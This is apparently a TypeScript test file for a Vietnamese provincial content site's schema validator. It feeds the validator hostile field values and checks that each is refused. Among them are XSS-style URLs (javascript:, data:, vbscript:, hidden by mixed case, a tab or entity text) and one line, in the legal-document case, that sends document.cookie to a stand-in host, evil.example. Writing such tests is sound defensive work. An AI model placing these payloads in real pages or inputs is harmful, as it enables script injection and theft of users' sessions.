/**
 * Hostile values in fields: URLs with schemes a browser would run (javascript:, data:, vbscript:,
 * hidden by case, a tab or entity-like text, or a protocol-relative //host), dates no document
 * carries (0000, 9999), a period that ends before it starts, and plan chains that loop.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fixtureContent } from './content-dir.ts';
import { samplePlace } from './sample-place.ts';
import type { HostileCase } from './types.ts';

const read = (path: string) => readFileSync(join(fixtureContent, path), 'utf8');
/** The fixture file with `from` replaced by `to`; fails loudly when the fixture no longer has `from`. */
const edit = (path: string, from: string | RegExp, to: string) => {
  const text = read(path);
  const edited = text.replace(from, to);
  if (edited === text) throw new Error(`${path}: "${String(from)}" not found — the case no longer edits anything`);
  return edited;
};

const PRESS = 'fixture/press/vi/thong-cao.md';
const PLAN = 'fixture/plans/vi/ke-hoach-2024.md';
const UNIT = 'fixture/units/so-ngoai-vu.yaml';
const PERSON = 'fixture/people/nguoi-phat-ngon.yaml';
const PROVINCE = 'fixture/province.yaml';
const LEGAL = 'national/legal/nghi-dinh-72-2015-nd-cp.yaml';
const RATE = 'national/exchange-rates/usd.yaml';
const ANNIVERSARY = 'national/anniversaries/quoc-khanh.yaml';
const PLACE = 'fixture/places/vi/ho.md';

/** A 1×1 PNG, so a place's cover is a real image whatever the file checks look at. */
const PNG = Uint8Array.from(
  Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGM4kWIEAANWAV/oF4RSAAAAAElFTkSuQmCC', 'base64'),
);

/** A valid place whose only source has the address `url` (a YAML scalar as written). */
const placeWithSource = (url: string) => ({
  [PLACE]: samplePlace({ sourceUrl: url, body: 'Hồ nước mẫu.' }),
  'fixture/images/ho.png': PNG,
});

const SCHEME = (scheme: string) => new RegExp(`"${scheme}:", loại địa chỉ không được phép`);
const YEAR = (year: string) => new RegExp(`năm ${year} nằm ngoài khoảng cho phép`);

/** A second plan of the fixture, implementing `implementsPlan`. */
const otherPlan = (slug: string, implementsPlan: string) => ({
  [`fixture/plans/vi/${slug}.md`]: `---
title: Kế hoạch mẫu thứ hai của tỉnh Mẫu
issuer: ubnd-tinh
year: 2024
level: province
area: tỉnh Mẫu
implements:
  - plan: ${implementsPlan}
    kind: Kế hoạch
sample: true
---
Nội dung.
`,
});
const PLAN_IMPLEMENTS = (slug: string) =>
  edit(PLAN, 'basis:', `implements:\n  - plan: ${slug}\n    kind: Kế hoạch\nbasis:`);

export const CASES: HostileCase[] = [
  // URL fields: every schema field that holds an address goes through the one scheme allowlist.
  {
    name: 'a javascript: source of a place',
    class: 'URL schemes',
    files: placeWithSource('javascript:alert(document.domain)'),
    outcome: { refused: { file: PLACE, field: 'sources[1].url', message: SCHEME('javascript') } },
    alsoBuild: true,
  },
  {
    name: 'a data: source of a place',
    class: 'URL schemes',
    files: placeWithSource('"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="'),
    outcome: { refused: { file: PLACE, field: 'sources[1].url', message: SCHEME('data') } },
  },
  {
    name: 'a protocol-relative //host source of a place',
    class: 'URL schemes',
    files: placeWithSource('//evil.example/trang'),
    outcome: { refused: { file: PLACE, field: 'sources[1].url', message: /bắt đầu bằng "\/\/"/ } },
  },
  {
    name: 'a vbscript: unit website',
    class: 'URL schemes',
    files: { [UNIT]: `${read(UNIT)}website: "vbscript:msgbox(1)"\n` },
    outcome: { refused: { file: UNIT, field: 'website', message: SCHEME('vbscript') } },
  },
  {
    name: 'a unit website in mixed case JaVaScRiPt:',
    class: 'URL schemes',
    files: { [UNIT]: `${read(UNIT)}website: "JaVaScRiPt:alert(1)"\n` },
    outcome: { refused: { file: UNIT, field: 'website', message: SCHEME('javascript') } },
  },
  {
    name: 'a unit website with a tab inside "javascript:"',
    class: 'URL schemes',
    files: { [UNIT]: `${read(UNIT)}website: "java\\tscript:alert(1)"\n` },
    outcome: { refused: { file: UNIT, field: 'website', message: SCHEME('javascript') } },
  },
  {
    name: 'a javascript: official link of a legal document',
    class: 'URL schemes',
    files: { [LEGAL]: edit(LEGAL, /^url: .*$/m, `url: "javascript:fetch('//evil.example/?c='+document.cookie)"`) },
    outcome: { refused: { file: LEGAL, field: 'url', message: SCHEME('javascript') } },
  },
  {
    name: 'a legal document link written with entity-like text (jav&#x61;script:)',
    class: 'URL schemes',
    files: { [LEGAL]: edit(LEGAL, /^url: .*$/m, 'url: "jav&#x61;script:alert(1)"') },
    outcome: { refused: { file: LEGAL, field: 'url', message: /không phải địa chỉ trang web đầy đủ/ } },
  },
  {
    name: 'a data: address of the exchange rate',
    class: 'URL schemes',
    files: { [RATE]: edit(RATE, /^url: .*$/m, 'url: "data:text/html,<script>alert(1)</script>"') },
    outcome: { refused: { file: RATE, field: 'url', message: SCHEME('data') } },
  },
  {
    name: 'a javascript: site address of the province',
    class: 'URL schemes',
    files: { [PROVINCE]: edit(PROVINCE, 'site: https://fixture.ttdn.example', 'site: "javascript:alert(1)"') },
    outcome: { refused: { file: PROVINCE, field: 'site', message: SCHEME('javascript') } },
  },
  {
    name: 'a contact phone that would become a javascript: link',
    class: 'URL schemes',
    files: { [PROVINCE]: edit(PROVINCE, 'phone: "0200 000 000"', 'phone: "javascript:alert(1)"') },
    outcome: { refused: { file: PROVINCE, field: 'agency.contacts[1].phone', message: /0269 3824 000/ } },
  },

  // Dates: a real calendar date in a year no document carries.
  {
    name: 'a press release dated 0000-01-01',
    class: 'values',
    files: { [PRESS]: edit(PRESS, 'date: 2024-03-05', 'date: 0000-01-01') },
    outcome: { refused: { file: PRESS, field: 'date', message: YEAR('0000') } },
  },
  {
    name: 'a press release dated 9999-12-31',
    class: 'values',
    files: { [PRESS]: edit(PRESS, 'date: 2024-03-05', 'date: 9999-12-31') },
    outcome: { refused: { file: PRESS, field: 'date', message: YEAR('9999') } },
  },
  {
    name: 'a legal document issued on 0000-01-01',
    class: 'values',
    files: { [LEGAL]: edit(LEGAL, 'issuedOn: 2015-09-07', 'issuedOn: 0000-01-01') },
    outcome: { refused: { file: LEGAL, field: 'issuedOn', message: YEAR('0000') } },
  },
  {
    name: 'a legal document issued on 9999-12-31',
    class: 'values',
    files: { [LEGAL]: edit(LEGAL, 'issuedOn: 2015-09-07', 'issuedOn: 9999-12-31') },
    outcome: { refused: { file: LEGAL, field: 'issuedOn', message: YEAR('9999') } },
  },
  {
    name: 'an anniversary counted from the year 999',
    class: 'values',
    files: { [ANNIVERSARY]: edit(ANNIVERSARY, 'date: 1945-09-02', 'date: 0999-09-02') },
    outcome: { refused: { file: ANNIVERSARY, field: 'date', message: YEAR('0999') } },
  },

  // Periods: an end before its start.
  {
    name: 'a spokesperson whose term ends before it starts',
    class: 'values',
    files: { [PERSON]: `${read(PERSON)}to: 2023-12-31\n` },
    outcome: { refused: { file: PERSON, field: 'to', message: /trước ngày bắt đầu 2024-01-02/ } },
  },
  {
    name: 'an anniversary calendar whose last year comes before its first',
    class: 'values',
    // The fixture has calendar years of its own: this case replaces them.
    files: { [PROVINCE]: `${read(PROVINCE).replace(/^calendarYears: .*\n/mu, '')}calendarYears: [2030, 2020]\n` },
    outcome: { refused: { file: PROVINCE, field: 'calendarYears[2]', message: /trước năm đầu 2030/ } },
  },

  {
    name: 'a plan whose reporting deadline comes before it is issued',
    class: 'values',
    files: {
      [PLAN]: edit(
        PLAN,
        'sample: true',
        'reportingDeadlines:\n  - due: 2023-12-01\n    what: Báo cáo kết quả thực hiện\nsample: true',
      ),
    },
    outcome: {
      refused: {
        file: PLAN,
        field: 'reportingDeadlines[1].due',
        message: /hạn 2023-12-01 trước ngày ban hành 2024-01-03/,
      },
    },
  },

  // Plan chains: a plan cannot be above itself.
  {
    name: 'a plan that implements itself',
    class: 'values',
    files: { [PLAN]: PLAN_IMPLEMENTS('ke-hoach-2024') },
    outcome: { refused: { file: PLAN, field: 'implements[1].plan', message: /ke-hoach-2024 → ke-hoach-2024/ } },
    alsoBuild: true,
  },
  {
    name: 'two plans that implement each other',
    class: 'values',
    files: { [PLAN]: PLAN_IMPLEMENTS('ke-hoach-phu'), ...otherPlan('ke-hoach-phu', 'ke-hoach-2024') },
    outcome: {
      refused: { file: PLAN, field: 'implements[1].plan', message: /ke-hoach-2024 → ke-hoach-phu → ke-hoach-2024/ },
    },
  },
  {
    name: 'three plans in a loop',
    class: 'values',
    files: {
      [PLAN]: PLAN_IMPLEMENTS('ke-hoach-b'),
      ...otherPlan('ke-hoach-b', 'ke-hoach-c'),
      ...otherPlan('ke-hoach-c', 'ke-hoach-2024'),
    },
    outcome: {
      refused: {
        file: 'fixture/plans/vi/ke-hoach-c.md',
        field: 'implements[1].plan',
        message: /ke-hoach-c → ke-hoach-2024 → ke-hoach-b → ke-hoach-c/,
      },
    },
  },
];
